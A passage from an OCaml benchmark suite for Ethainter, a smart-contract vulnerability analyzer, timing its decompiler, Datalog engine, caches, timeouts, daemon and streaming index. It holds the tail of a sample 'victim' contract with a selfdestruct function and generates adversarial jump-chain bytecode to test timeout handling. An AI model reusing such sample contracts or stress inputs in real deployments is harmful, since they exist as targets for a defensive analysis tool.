        function changeOwner(address o) public onlyAdmins { owner = o; }
        function kill() public onlyAdmins { selfdestruct(owner); }
      }|}

let decompile () = ignore (Ethainter_tac.Decomp.decompile victim_runtime)

let analyze_one () = ignore (P.run (P.request (P.Runtime victim_runtime)))

let keccak () = ignore (Ethainter_crypto.Keccak.hash (String.make 1000 'x'))

let tests =
  [ Test.make ~name:"T1-flagged-table" (Staged.stage t1);
    Test.make ~name:"F6-precision" (Staged.stage f6);
    Test.make ~name:"S1-securify" (Staged.stage s1);
    Test.make ~name:"F7-securify2" (Staged.stage f7);
    Test.make ~name:"TE-teether" (Staged.stage te);
    Test.make ~name:"E1-kill-campaign" (Staged.stage e1);
    Test.make ~name:"RQ2-throughput" (Staged.stage rq2);
    Test.make ~name:"F8a-no-storage" (Staged.stage f8a);
    Test.make ~name:"F8b-no-guards" (Staged.stage f8b);
    Test.make ~name:"F8c-conservative" (Staged.stage f8c);
    Test.make ~name:"stage-decompile" (Staged.stage decompile);
    Test.make ~name:"stage-analyze-contract" (Staged.stage analyze_one);
    Test.make ~name:"stage-keccak-1k" (Staged.stage keccak) ]

let benchmark () =
  let instances = Instance.[ monotonic_clock ] in
  let cfg = Benchmark.cfg ~limit:50 ~quota:(Time.second 0.5) () in
  let test = Test.make_grouped ~name:"ethainter" tests in
  let results = Benchmark.all cfg instances test in
  let ols =
    Analyze.ols ~bootstrap:0 ~r_square:false ~predictors:[| Measure.run |]
  in
  let analyzed =
    List.map (fun instance -> Analyze.all ols instance results) instances
  in
  let merged = Analyze.merge ols instances analyzed in
  Hashtbl.iter
    (fun measure tbl ->
      Printf.printf "\n== %s (ns/run) ==\n" measure;
      let rows = Hashtbl.fold (fun name v acc -> (name, v) :: acc) tbl [] in
      List.iter
        (fun (name, result) ->
          match Analyze.OLS.estimates result with
          | Some [ est ] -> Printf.printf "%-45s %14.0f\n" name est
          | _ -> Printf.printf "%-45s %14s\n" name "n/a")
        (List.sort compare rows))
    merged

(* ------------------------------------------------------------------ *)
(* PR1 scaling comparison: sequential vs parallel corpus analysis and  *)
(* naive vs indexed Datalog joins, on seeded workloads, emitted as     *)
(* machine-readable BENCH_pr1.json so later PRs have a trajectory.     *)
(* ------------------------------------------------------------------ *)

let time_best ?(reps = 3) (f : unit -> unit) : float =
  let best = ref infinity in
  for _ = 1 to reps do
    let t0 = Unix.gettimeofday () in
    f ();
    best := min !best (Unix.gettimeofday () -. t0)
  done;
  !best

(* the indexed-join showcase: transitive closure over a seeded random
   graph — every recursive step joins path against edge *)
let tc_workload ~nodes ~edges =
  let p = D.create () in
  D.declare p "edge" 2;
  D.declare p "path" 2;
  D.add_rule p
    ("path", [ D.v "x"; D.v "y" ])
    [ D.Pos ("edge", [ D.v "x"; D.v "y" ]) ];
  D.add_rule p
    ("path", [ D.v "x"; D.v "z" ])
    [ D.Pos ("path", [ D.v "x"; D.v "y" ]); D.Pos ("edge", [ D.v "y"; D.v "z" ]) ];
  let state = ref 123456789 in
  let rand n =
    state := ((!state * 1103515245) + 12345) land 0x3FFFFFFF;
    !state mod n
  in
  let facts =
    [ ( "edge",
        List.init edges (fun _ ->
            [| D.Sym (Printf.sprintf "n%d" (rand nodes));
               D.Sym (Printf.sprintf "n%d" (rand nodes)) |]) ) ]
  in
  (p, facts)

let bench_pr1 () =
  print_endline "";
  print_endline "PR1 scaling comparison (scheduler + indexed joins):";
  (* the result cache would let the second timed run replay the first
     (and the parallel run replay the sequential one) — disable it so
     these numbers keep measuring the raw analysis *)
  P.set_cache_enabled false;
  (* corpus analysis: sequential List.map vs the Domain worker pool *)
  let corpus_size = 150 and corpus_seed = 42 in
  let corpus = G.mainnet ~seed:corpus_seed ~size:corpus_size () in
  let runtimes = List.map (fun (i : G.instance) -> i.G.i_runtime) corpus in
  let workers = S.default_workers () in
  let seq_s =
    time_best (fun () ->
        ignore (List.map (fun c -> P.run (P.request (P.Runtime c))) runtimes))
  in
  let par_s = time_best (fun () -> ignore (S.analyze_corpus ~workers runtimes)) in
  let par_speedup = seq_s /. par_s in
  Printf.printf
    "  corpus (n=%d): sequential %.3f s, parallel %.3f s (%d workers) -> %.2fx\n"
    corpus_size seq_s par_s workers par_speedup;
  (* Datalog joins: naive full-relation scans vs hash indexes *)
  let nodes = 250 and edges = 900 in
  let p, facts = tc_workload ~nodes ~edges in
  let naive_s = time_best (fun () -> ignore (D.solve ~indexed:false p facts)) in
  let indexed_s = time_best (fun () -> ignore (D.solve ~indexed:true p facts)) in
  let idx_speedup = naive_s /. indexed_s in
  Printf.printf
    "  datalog TC (%d nodes, %d edges): naive %.3f s, indexed %.3f s -> %.2fx\n"
    nodes edges naive_s indexed_s idx_speedup;
  let combined = par_speedup *. idx_speedup in
  Printf.printf "  combined speedup: %.2fx\n" combined;
  let oc = open_out "BENCH_pr1.json" in
  Printf.fprintf oc
    {|{
  "pr": 1,
  "machine_cores": %d,
  "scheduler": {
    "corpus_size": %d,
    "corpus_seed": %d,
    "workers": %d,
    "sequential_s": %.6f,
    "parallel_s": %.6f,
    "speedup": %.4f
  },
  "datalog_joins": {
    "workload": "transitive_closure",
    "nodes": %d,
    "edges": %d,
    "naive_s": %.6f,
    "indexed_s": %.6f,
    "speedup": %.4f
  },
  "combined_speedup": %.4f
}
|}
    (Domain.recommended_domain_count ())
    corpus_size corpus_seed workers seq_s par_s par_speedup
    nodes edges naive_s indexed_s idx_speedup combined;
  close_out oc;
  P.set_cache_enabled true;
  print_endline "  wrote BENCH_pr1.json"

(* ------------------------------------------------------------------ *)
(* PR2: content-addressed result cache. Cold sweep vs warm re-sweep of *)
(* the same corpus, hit rate, and a differential check that cached     *)
(* results are byte-identical to an uncached run; emitted as           *)
(* BENCH_pr2.json.                                                     *)
(* ------------------------------------------------------------------ *)

(* identical up to wall-clock: everything but elapsed_s *)
let normalize (r : P.result) = { r with P.elapsed_s = 0.0 }

let bench_pr2 () =
  print_endline "";
  print_endline "PR2 result cache (cold sweep vs warm re-sweep):";
  let corpus_size = 150 and corpus_seed = 42 in
  let corpus = G.mainnet ~seed:corpus_seed ~size:corpus_size () in
  let runtimes = List.map (fun (i : G.instance) -> i.G.i_runtime) corpus in
  P.set_cache_enabled true;
  P.cache_clear ();
  let t0 = Unix.gettimeofday () in
  let cold_results = S.analyze_corpus runtimes in
  let cold_s = Unix.gettimeofday () -. t0 in
  let t0 = Unix.gettimeofday () in
  let warm_results = S.analyze_corpus runtimes in
  let warm_s = Unix.gettimeofday () -. t0 in
  let stats = P.cache_stats () in
  let hit_rate = Ethainter_core.Cache.hit_rate stats in
  P.set_cache_enabled false;
  let uncached_results = S.analyze_corpus runtimes in
  P.set_cache_enabled true;
  let identical =
    List.for_all2
      (fun a b -> normalize a = normalize b)
      warm_results uncached_results
    && List.for_all2
         (fun a b -> normalize a = normalize b)
         cold_results warm_results
  in
  let speedup = if warm_s > 0.0 then cold_s /. warm_s else infinity in
  Printf.printf
    "  corpus (n=%d): cold %.3f s, warm %.3f s -> %.1fx, %.1f%% hit rate\n"
    corpus_size cold_s warm_s speedup (100.0 *. hit_rate);
  Printf.printf "  cached == uncached (reports byte-identical): %b\n" identical;
  let oc = open_out "BENCH_pr2.json" in
  Printf.fprintf oc
    {|{
  "pr": 2,
  "machine_cores": %d,
  "cache": {
    "corpus_size": %d,
    "corpus_seed": %d,
    "cold_sweep_s": %.6f,
    "warm_sweep_s": %.6f,
    "warm_speedup": %.4f,
    "hit_rate": %.4f,
    "memory_hits": %d,
    "misses": %d,
    "evictions": %d,
    "identical_to_uncached": %b
  }
}
|}
    (Domain.recommended_domain_count ())
    corpus_size corpus_seed cold_s warm_s speedup hit_rate
    stats.Ethainter_core.Cache.hits stats.Ethainter_core.Cache.misses
    stats.Ethainter_core.Cache.evictions identical;
  close_out oc;
  print_endline "  wrote BENCH_pr2.json"

(* ------------------------------------------------------------------ *)
(* PR3: phase-split cache. The Fig. 8 ablation protocol — one corpus   *)
(* under four configs — with cross-config front-end reuse, against the *)
(* PR 2 single-tier behavior (every config pays its own decompilation+ *)
(* facts pass, simulated by flushing the cache between configs);       *)
(* emitted as BENCH_pr3.json.                                          *)
(* ------------------------------------------------------------------ *)

let bench_pr3 () =
  print_endline "";
  print_endline
    "PR3 phase-split cache (4-config ablation sweep, front-end reuse):";
  let corpus_size = 150 and corpus_seed = 42 in
  let corpus = G.mainnet ~seed:corpus_seed ~size:corpus_size () in
  let runtimes = List.map (fun (i : G.instance) -> i.G.i_runtime) corpus in
  let module C = Ethainter_core.Config in
  let configs =
    [ C.default; C.no_storage_model; C.no_guard_model; C.conservative ]
  in
  let sweep cfg =
    S.analyze_requests
      (List.map (fun code -> P.request ~cfg (P.Runtime code)) runtimes)
  in
  P.set_cache_enabled true;
  (* PR 2 baseline: no cross-config sharing existed (every key carried
     the config fingerprint), so flushing between configs reproduces
     its cost profile exactly *)
  let t0 = Unix.gettimeofday () in
  List.iter (fun cfg -> P.cache_clear (); ignore (sweep cfg)) configs;
  let single_tier_s = Unix.gettimeofday () -. t0 in
  (* phase-split: one shared front end, four back-end passes *)
  P.cache_clear ();
  let t0 = Unix.gettimeofday () in
  let split_results = List.map sweep configs in
  let split_s = Unix.gettimeofday () -. t0 in
  let fe = P.frontend_cache_stats () in
  let be = P.cache_stats () in
  let distinct =
    List.length (List.sort_uniq compare runtimes)
  in
  (* differential: phase-split results byte-identical to uncached runs
     for all four configs *)
  P.set_cache_enabled false;
  let uncached_results = List.map sweep configs in
  P.set_cache_enabled true;
  let identical =
    List.for_all2
      (fun cached uncached ->
        List.for_all2
          (fun a b -> normalize a = normalize b)
          cached uncached)
      split_results uncached_results
  in
  let speedup = if split_s > 0.0 then single_tier_s /. split_s else infinity in
  Printf.printf
    "  corpus (n=%d, %d distinct) x %d configs: single-tier %.3f s, \
     phase-split %.3f s -> %.2fx\n"
    (List.length runtimes) distinct (List.length configs) single_tier_s
    split_s speedup;
  Printf.printf
    "  front-end passes: %d (misses) for %d distinct contracts, %d reuses\n"
    fe.Ethainter_core.Cache.misses distinct
    (fe.Ethainter_core.Cache.hits + fe.Ethainter_core.Cache.disk_hits);
  Printf.printf "  phase-split == uncached (all configs): %b\n" identical;
  let oc = open_out "BENCH_pr3.json" in
  Printf.fprintf oc
    {|{
  "pr": 3,
  "machine_cores": %d,
  "phase_split": {
    "corpus_size": %d,
    "corpus_seed": %d,
    "distinct_contracts": %d,
    "configs": %d,
    "single_tier_s": %.6f,
    "split_s": %.6f,
    "speedup": %.4f,
    "frontend_misses": %d,
    "frontend_hits": %d,
    "backend_misses": %d,
    "backend_hits": %d,
    "identical_to_uncached": %b
  }
}
|}
    (Domain.recommended_domain_count ())
    corpus_size corpus_seed distinct (List.length configs)
    single_tier_s split_s speedup
    fe.Ethainter_core.Cache.misses
    (fe.Ethainter_core.Cache.hits + fe.Ethainter_core.Cache.disk_hits)
    be.Ethainter_core.Cache.misses
    (be.Ethainter_core.Cache.hits + be.Ethainter_core.Cache.disk_hits)
    identical;
  close_out oc;
  print_endline "  wrote BENCH_pr3.json"

(* ------------------------------------------------------------------ *)
(* PR4: robustness. (a) The cost of preemptive cancellation: a clean   *)
(* uncached corpus sweep with the amortized deadline polls disabled    *)
(* vs enabled (target: < 2% overhead). (b) The timeout tail:           *)
(* adversarial bytecode under a tight budget must return within 1.25x  *)
(* of it. Emitted as BENCH_pr4.json.                                   *)
(* ------------------------------------------------------------------ *)

(* A long jump chain: [n] blocks of JUMPDEST; PUSH2 next; JUMP — the
   worklist decompiler walks every block, pass after pass, so a tight
   budget exercises the mid-decompile deadline, not the phase-boundary
   checks. *)
let jump_chain_bytecode n =
  let b = Buffer.create (5 * n) in
  for k = 0 to n - 1 do
    let target = if k = n - 1 then 0 else 5 * (k + 1) in
    Buffer.add_char b '\x5b';
    Buffer.add_char b '\x61';
    Buffer.add_char b (Char.chr ((target lsr 8) land 0xff));
    Buffer.add_char b (Char.chr (target land 0xff));
    Buffer.add_char b '\x56'
  done;
  Buffer.contents b

let bench_pr4 () =
  let module DL = Ethainter_core.Deadline in
  print_endline "";
  print_endline "PR4 robustness (deadline-poll overhead + timeout tail):";
  (* the cost of the poll hook itself, isolated: a counted loop with
     and without the call. This is the per-iteration price every hot
     loop pays for being cancellable (~a domain-local load, a
     decrement and a branch). *)
  let poll_ns =
    let n = 50_000_000 in
    let sink = ref 0 in
    let base =
      time_best (fun () -> for i = 1 to n do sink := !sink + i done)
    in
    let polled =
      time_best (fun () ->
          for i = 1 to n do
            sink := !sink + i;
            DL.poll ()
          done)
    in
    (polled -. base) /. float_of_int n *. 1e9
  in
  Printf.printf "  poll hook: %.2f ns/call (interval %d)\n" poll_ns
    DL.poll_interval;
  let corpus_size = 300 and corpus_seed = 42 in
  let corpus = G.mainnet ~seed:corpus_seed ~size:corpus_size () in
  let runtimes = List.map (fun (i : G.instance) -> i.G.i_runtime) corpus in
  let workers = S.default_workers () in
  let cores = Domain.recommended_domain_count () in
  (* uncached, so every sweep pays the full analysis the polls sit in *)
  P.set_cache_enabled false;
  let sweep () = ignore (S.analyze_corpus ~workers runtimes) in
  (* warm up the allocator and page cache, then alternate off/on pairs
     so slow drift (GC, the machine) hits both sides of each pair
     equally; the median per-pair ratio is robust to the odd
     perturbed run *)
  sweep ();
  let pairs = 16 in
  let timed enabled =
    DL.set_enabled enabled;
    let t0 = Unix.gettimeofday () in
    sweep ();
    Unix.gettimeofday () -. t0
  in
  let ratios =
    (* alternate which side runs first, so within-pair warmth/frequency
       drift doesn't systematically favor one side *)
    List.init pairs (fun i ->
        let off, on =
          if i mod 2 = 0 then
            let off = timed false in (off, timed true)
          else
            let on = timed true in (timed false, on)
        in
        (on /. off, off, on))
  in
  DL.set_enabled true;
  let sorted = List.sort compare ratios in
  let ratio_med, off_s, on_s = List.nth sorted (pairs / 2) in
  let overhead_pct = (ratio_med -. 1.0) *. 100.0 in
  Printf.printf
    "  corpus (n=%d, %d workers, %d cores): enforcement off %.3f s, on \
     %.3f s -> %+.2f%% overhead (median of %d pairs)\n"
    corpus_size workers cores off_s on_s overhead_pct pairs;
  (* the timeout tail: how long past its budget does a hostile input
     actually run? *)
  let adversarial_blocks = 20000 in
  let code = jump_chain_bytecode adversarial_blocks in
  let budget_s = 0.05 in
  let t0 = Unix.gettimeofday () in
  let r = P.run (P.request ~timeout_s:budget_s (P.Runtime code)) in
  let wall_s = Unix.gettimeofday () -. t0 in
  let ratio = wall_s /. budget_s in
  P.set_cache_enabled true;
  Printf.printf
    "  adversarial decompile (%d blocks, %.0f ms budget): timed_out %b, \
     returned in %.1f ms (%.2fx budget, bound 1.25x)\n"
    adversarial_blocks (budget_s *. 1000.0) r.P.timed_out (wall_s *. 1000.0)
    ratio;
  let oc = open_out "BENCH_pr4.json" in
  Printf.fprintf oc
    {|{
  "pr": 4,
  "machine_cores": %d,
  "workers": %d,
  "deadline_poll_overhead": {
    "corpus_size": %d,
    "corpus_seed": %d,
    "poll_interval": %d,
    "poll_ns_per_call": %.4f,
    "enforcement_disabled_s": %.6f,
    "enforcement_enabled_s": %.6f,
    "overhead_pct": %.4f
  },
  "timeout_tail": {
    "adversarial_blocks": %d,
    "budget_s": %.6f,
    "wall_s": %.6f,
    "ratio": %.4f,
    "timed_out": %b,
    "within_1_25x": %b
  }
}
|}
    cores workers corpus_size corpus_seed DL.poll_interval poll_ns off_s
    on_s overhead_pct adversarial_blocks budget_s wall_s ratio
    r.P.timed_out
    (r.P.timed_out && ratio <= 1.25);
  close_out oc;
  print_endline "  wrote BENCH_pr4.json"

(* ------------------------------------------------------------------ *)
(* PR5: compile-once query planner. (a) The PR 1 TC workload under all  *)
(* three strategies — compile-once planned (slot envs, static          *)
(* adornments, interned constants, delta indexes) vs the PR 1          *)
(* per-probe indexed evaluator vs naive scans. (b) The declarative     *)
(* ifspec pass re-run per strategy over pre-decompiled corpus facts,   *)
(* isolating the Datalog engine inside the real analysis. (c) A cold   *)
(* uncached end-to-end sweep at the PR 4 scale — directly comparable   *)
(* to BENCH_pr4.json's enforcement_enabled_s. Plus planner and         *)
(* intern-table counters. Emitted as BENCH_pr5.json.                   *)
(* ------------------------------------------------------------------ *)

let bench_pr5 () =
  let module DF = Ethainter_core.Datalog_frontend in
  let module F = Ethainter_core.Facts in
  let module I = Ethainter_runtime.Intern in
  print_endline "";
  print_endline "PR5 query planner (compile-once plans + interned constants):";
  (* (a) the PR 1 microbenchmark, for trajectory comparability *)
  let nodes = 250 and edges = 900 in
  let p, facts = tc_workload ~nodes ~edges in
  let naive_s =
    time_best (fun () -> ignore (D.solve ~strategy:D.Naive p facts))
  in
  let indexed_s =
    time_best (fun () -> ignore (D.solve ~strategy:D.Indexed p facts))
  in
  let planned_s =
    time_best (fun () -> ignore (D.solve ~strategy:D.Planned p facts))
  in
  let tc_vs_naive = naive_s /. planned_s in
  let tc_vs_indexed = indexed_s /. planned_s in
  Printf.printf
    "  datalog TC (%d nodes, %d edges): naive %.3f s, indexed %.3f s, \
     planned %.3f s -> %.2fx vs naive, %.2fx vs indexed\n"
    nodes edges naive_s indexed_s planned_s tc_vs_naive tc_vs_indexed;
  (* (b) the declarative pass of the real analysis, engine isolated:
     decompile + fact extraction happen once, outside the timers *)
  let corpus_size = 150 and corpus_seed = 42 in
  let corpus = G.mainnet ~seed:corpus_seed ~size:corpus_size () in
  let all_facts =
    List.map
      (fun (i : G.instance) ->
        F.compute (Ethainter_tac.Decomp.decompile i.G.i_runtime))
      corpus
  in
  let ifspec strategy =
    time_best (fun () ->
        List.iter (fun f -> ignore (DF.run ~strategy f)) all_facts)
  in
  let if_naive_s = ifspec D.Naive in
  let if_indexed_s = ifspec D.Indexed in
  let if_planned_s = ifspec D.Planned in
  let if_vs_indexed = if_indexed_s /. if_planned_s in
  Printf.printf
    "  ifspec pass (n=%d contracts, facts precomputed): naive %.3f s, \
     indexed %.3f s, planned %.3f s -> %.2fx vs indexed\n"
    corpus_size if_naive_s if_indexed_s if_planned_s if_vs_indexed;
  (* (c) cold uncached end-to-end sweep at the PR 4 scale; compare
     against enforcement_enabled_s in BENCH_pr4.json *)
  let e2e_size = 300 in
  let e2e = G.mainnet ~seed:corpus_seed ~size:e2e_size () in
  let runtimes = List.map (fun (i : G.instance) -> i.G.i_runtime) e2e in
  let workers = S.default_workers () in
  P.set_cache_enabled false;
  ignore (S.analyze_corpus ~workers runtimes);
  let cold_s = time_best (fun () -> ignore (S.analyze_corpus ~workers runtimes)) in
  P.set_cache_enabled true;
  let cps = float_of_int e2e_size /. cold_s in
  Printf.printf
    "  end-to-end cold sweep (n=%d, %d workers, uncached): %.3f s \
     (%.1f contracts/s; PR4-comparable)\n"
    e2e_size workers cold_s cps;
  let ds = D.stats () in
  let it = I.stats () in
  let total_lookups = it.I.local_hits + it.I.shared_hits + it.I.inserts in
  let local_rate =
    if total_lookups > 0 then
      float_of_int it.I.local_hits /. float_of_int total_lookups
    else 0.0
  in
  Printf.printf
    "  planner: %d plans built, %d cache reuses\n"
    ds.D.plans_built ds.D.plan_reuses;
  Printf.printf
    "  intern table: %d distinct symbols, %d lookups, %.1f%% served \
     lock-free from domain-local caches\n"
    it.I.interned total_lookups (100.0 *. local_rate);
  let oc = open_out "BENCH_pr5.json" in
  Printf.fprintf oc
    {|{
  "pr": 5,
  "machine_cores": %d,
  "datalog_tc": {
    "workload": "transitive_closure",
    "nodes": %d,
    "edges": %d,
    "naive_s": %.6f,
    "indexed_s": %.6f,
    "planned_s": %.6f,
    "planned_vs_naive": %.4f,
    "planned_vs_indexed": %.4f
  },
  "ifspec_sweep": {
    "corpus_size": %d,
    "corpus_seed": %d,
    "naive_s": %.6f,
    "indexed_s": %.6f,
    "planned_s": %.6f,
    "planned_vs_indexed": %.4f
  },
  "end_to_end": {
    "corpus_size": %d,
    "corpus_seed": %d,
    "workers": %d,
    "cold_sweep_s": %.6f,
    "contracts_per_s": %.4f,
    "comparable_to": "BENCH_pr4.json enforcement_enabled_s"
  },
  "planner": {
    "plans_built": %d,
    "plan_reuses": %d
  },
  "intern": {
    "interned": %d,
    "local_hits": %d,
    "shared_hits": %d,
    "inserts": %d,
    "local_hit_rate": %.4f
  }
}
|}
    (Domain.recommended_domain_count ())
    nodes edges naive_s indexed_s planned_s tc_vs_naive tc_vs_indexed
    corpus_size corpus_seed if_naive_s if_indexed_s if_planned_s if_vs_indexed
    e2e_size corpus_seed workers cold_s cps
    ds.D.plans_built ds.D.plan_reuses
    it.I.interned it.I.local_hits it.I.shared_hits it.I.inserts local_rate;
  close_out oc;
  print_endline "  wrote BENCH_pr5.json"

(* ------------------------------------------------------------------ *)
(* PR6: the serving daemon. Closed-loop capacity through the full      *)
(* protocol stack (frames, admission queue, domain pool) first, then   *)
(* open-loop points at ~0.5x / ~0.9x / 2x of that capacity — sustained *)
(* contracts/s, p50/p99 latency at each offered load, and the shed     *)
(* rate once offered load exceeds capacity (admission control working  *)
(* instead of latency collapsing). Emitted as BENCH_pr6.json.          *)
(* ------------------------------------------------------------------ *)

let bench_pr6 () =
  let module Server = Ethainter_serve.Server in
  let module Client = Ethainter_serve.Client in
  let module Proto = Ethainter_serve.Proto in
  let module Hex = Ethainter_word.Hex in
  print_endline "";
  print_endline "PR6 serving daemon (protocol stack + admission control):";
  let corpus_size = 120 and corpus_seed = 42 in
  let corpus = G.mainnet ~seed:corpus_seed ~size:corpus_size () in
  let hexes =
    Array.of_list
      (List.map (fun (i : G.instance) -> Hex.encode i.G.i_runtime) corpus)
  in
  let n_hexes = Array.length hexes in
  let workers = S.default_workers () in
  let queue_depth = 64 in
  (* every request must be real work: with the content-addressed cache
     on, a fixed-corpus load loop would collapse into cache hits and
     measure the codec, not the service *)
  let cache_was = P.cache_enabled () in
  P.set_cache_enabled false;
  let server = Server.create ~workers ~queue_depth () in
  let sock_path =
    Filename.concat
      (Filename.get_temp_dir_name ())
      (Printf.sprintf "ethainterd_bench_%d.sock" (Unix.getpid ()))
  in
  let acceptor =
    Thread.create
      (fun () -> Server.serve_unix_socket server ~path:sock_path)
      ()
  in
  let rec connect tries =
    try Client.connect_unix sock_path
    with _ when tries > 0 ->
      Thread.delay 0.05;
      connect (tries - 1)
  in
  let quantiles samples =
    let a = Array.of_list samples in
    Array.sort compare a;
    let n = Array.length a in
    if n = 0 then (0.0, 0.0)
    else
      let at q =
        a.(min (n - 1) (int_of_float ((float_of_int (n - 1) *. q) +. 0.5)))
      in
      (at 0.5, at 0.99)
  in
  (* warm the protocol path and the per-domain state (intern caches,
     compiled plans) before measuring *)
  let probe = connect 100 in
  for k = 0 to min 29 (n_hexes - 1) do
    ignore (Client.analyze probe ~hex:hexes.(k) ())
  done;
  Client.close probe;
  (* ---- closed loop: capacity. As many always-busy clients as
     workers, each a sequential request loop — the sustained
     contracts/s the service can complete through the full stack. *)
  let closed_clients = workers and per_client = 25 in
  let closed_lat_mu = Mutex.create () in
  let closed_lat = ref [] in
  let t0 = Unix.gettimeofday () in
  let threads =
    List.init closed_clients (fun ci ->
        Thread.create
          (fun () ->
            let client = connect 10 in
            for k = 0 to per_client - 1 do
              let hex = hexes.(((ci * per_client) + k) mod n_hexes) in
              let t = Unix.gettimeofday () in
              (match Client.analyze client ~hex () with
              | Client.Result _ ->
                  let d = Unix.gettimeofday () -. t in
                  Mutex.lock closed_lat_mu;
                  closed_lat := d :: !closed_lat;
                  Mutex.unlock closed_lat_mu
              | _ -> ())
            done;
            Client.close client)
          ())
  in
  List.iter Thread.join threads;
  let closed_wall = Unix.gettimeofday () -. t0 in
  let closed_n = closed_clients * per_client in
  let closed_cps = float_of_int closed_n /. closed_wall in
  let closed_p50, closed_p99 = quantiles !closed_lat in
  Printf.printf
    "  closed loop: %d clients x %d reqs -> %.1f contracts/s (p50 %.1f ms, \
     p99 %.1f ms)\n%!"
    closed_clients per_client closed_cps (1000.0 *. closed_p50)
    (1000.0 *. closed_p99);
  (* ---- open loop: clients offer load at a fixed rate regardless of
     completions (the arrival process of a real deployment). Senders
     pace on an absolute schedule; a receiver thread per client stamps
     latency at true arrival. *)
  let open_loop_point ~offered_per_s ~duration_s =
    let n_clients = 4 in
    let interval = float_of_int n_clients /. offered_per_s in
    let lat_mu = Mutex.create () in
    let latencies = ref [] in
    let sent_total = Atomic.make 0 in
    let completed = Atomic.make 0 in
    let shed = Atomic.make 0 in
    let run_client ci =
      let client = connect 10 in
      let pending = Hashtbl.create 256 in
      let pmu = Mutex.create () in
      let received = Atomic.make 0 in
      let target = Atomic.make max_int in
      let receiver =
        Thread.create
          (fun () ->
            try
              while Atomic.get received < Atomic.get target do
                let id, resp = Client.recv client in
                let t1 = Unix.gettimeofday () in
                (match resp with
                | Client.Result _ ->
                    Mutex.lock pmu;
                    let t_sent = Hashtbl.find_opt pending id in
                    Hashtbl.remove pending id;
                    Mutex.unlock pmu;
                    (match t_sent with
                    | Some t ->
                        Mutex.lock lat_mu;
                        latencies := (t1 -. t) :: !latencies;
                        Mutex.unlock lat_mu;
                        Atomic.incr completed
                    | None -> ())
                | Client.Error Proto.Overloaded -> Atomic.incr shed
                | _ -> ());
                Atomic.incr received
              done
            with _ -> ())
          ()
      in
      let start = Unix.gettimeofday () in
      let k = ref 0 in
      while Unix.gettimeofday () -. start < duration_s do
        let next = start +. (float_of_int !k *. interval) in
        let now = Unix.gettimeofday () in
        if next > now then Thread.delay (next -. now);
        let hex = hexes.((ci + (!k * 13)) mod n_hexes) in
        (* this thread is the client's only sender and ids are
           assigned sequentially from 1, so the id is known before the
           send — record the send time first, or a fast response could
           overtake the bookkeeping and be dropped from the stats *)
        let t = Unix.gettimeofday () in
        Mutex.lock pmu;
        Hashtbl.replace pending (!k + 1) t;
        Mutex.unlock pmu;
        let id = Client.send_analyze client ~hex () in
        assert (id = !k + 1);
        incr k
      done;
      Atomic.set target !k;
      ignore (Atomic.fetch_and_add sent_total !k);
      (* drain: every offered request gets an answer (result or shed);
         the bound is a safety net, not an expectation *)
      let drain_deadline = Unix.gettimeofday () +. 30.0 in
      while
        Atomic.get received < !k && Unix.gettimeofday () < drain_deadline
      do
        Thread.delay 0.005
      done;
      Client.close client;
      (try Thread.join receiver with _ -> ())
    in
    let t0 = Unix.gettimeofday () in
    let threads = List.init n_clients (fun ci -> Thread.create run_client ci) in
    List.iter Thread.join threads;
    let wall = Unix.gettimeofday () -. t0 in
    let sent = Atomic.get sent_total in
    let comp = Atomic.get completed in
    let shed_n = Atomic.get shed in
    let p50, p99 = quantiles !latencies in
    let completed_per_s = float_of_int comp /. wall in
    let shed_rate =
      if sent = 0 then 0.0 else float_of_int shed_n /. float_of_int sent
    in
    Printf.printf
      "  open loop @ %7.1f/s offered: %7.1f/s completed, shed %d/%d \
       (%.1f%%), p50 %.1f ms, p99 %.1f ms\n%!"
      offered_per_s completed_per_s shed_n sent (100.0 *. shed_rate)
      (1000.0 *. p50) (1000.0 *. p99);
    (offered_per_s, completed_per_s, sent, comp, shed_n, shed_rate, p50, p99)
  in
  let duration_s = 6.0 in
  let points =
    List.map
      (fun factor ->
        open_loop_point ~offered_per_s:(factor *. closed_cps) ~duration_s)
      [ 0.5; 0.9; 2.0 ]
  in
  Server.stop server;
  (try Thread.join acceptor with _ -> ());
  P.set_cache_enabled cache_was;
  let cores = Domain.recommended_domain_count () in
  let point_json (offered, cps, sent, comp, shed_n, shed_rate, p50, p99) =
    Printf.sprintf
      {|    {
      "offered_per_s": %.2f,
      "completed_per_s": %.2f,
      "sent": %d,
      "completed": %d,
      "shed": %d,
      "shed_rate": %.4f,
      "p50_ms": %.3f,
      "p99_ms": %.3f
    }|}
      offered cps sent comp shed_n shed_rate (1000.0 *. p50) (1000.0 *. p99)
  in
  let oc = open_out "BENCH_pr6.json" in
  Printf.fprintf oc
    {|{
  "pr": 6,
  "machine_cores": %d,
  "workers": %d,
  "queue_depth": %d,
  "corpus_size": %d,
  "corpus_seed": %d,
  "closed_loop": {
    "clients": %d,
    "requests": %d,
    "wall_s": %.6f,
    "contracts_per_s": %.2f,
    "p50_ms": %.3f,
    "p99_ms": %.3f
  },
  "open_loop_duration_s": %.1f,
  "open_loop": [
%s
  ]
}
|}
    cores workers queue_depth corpus_size corpus_seed closed_clients
    closed_n closed_wall closed_cps (1000.0 *. closed_p50)
    (1000.0 *. closed_p99) duration_s
    (String.concat ",\n" (List.map point_json points));
  close_out oc;
  print_endline "  wrote BENCH_pr6.json"

(* ------------------------------------------------------------------ *)
(* PR7: the streaming index. The deploy/rotate/destroy scenario from   *)
(* lib/experiments against a live Index: block throughput, verdict     *)
(* lag, re-analyses per mutating block vs the full-sweep baseline      *)
(* (every live contract, every mutating block), the zero-front-end     *)
(* telemetry claim, and the incremental==batch differential. Emitted   *)
(* as BENCH_pr7.json.                                                  *)
(* ------------------------------------------------------------------ *)

let bench_pr7 () =
  print_endline "";
  print_endline
    "PR7 streaming index (dependency-aware incremental re-analysis):";
  let contracts = 24 and rotations = 36 and noise = 18 and kills = 4 in
  let r = E.stream ~contracts ~rotations ~noise ~kills () in
  let saved =
    r.E.st_full_sweep_per_mutating_block
    /. (let per = r.E.st_reanalyses_per_mutating_block in
        if per > 0.0 then per else 1.0)
  in
  Printf.printf
    "  %d blocks (%d contracts, %d rotations, %d noise writes, %d kills): \
     %.1f blocks/s\n"
    r.E.st_blocks contracts rotations noise kills r.E.st_blocks_per_s;
  Printf.printf
    "  re-analyses per mutating block: %.2f incremental vs %.2f full sweep \
     (%.1fx less work)\n"
    r.E.st_reanalyses_per_mutating_block r.E.st_full_sweep_per_mutating_block
    saved;
  Printf.printf "  mean verdict lag: %.2f blocks\n" r.E.st_mean_lag_blocks;
  Printf.printf
    "  front-end recomputations: %d (claim: 0); incremental == batch: %b\n"
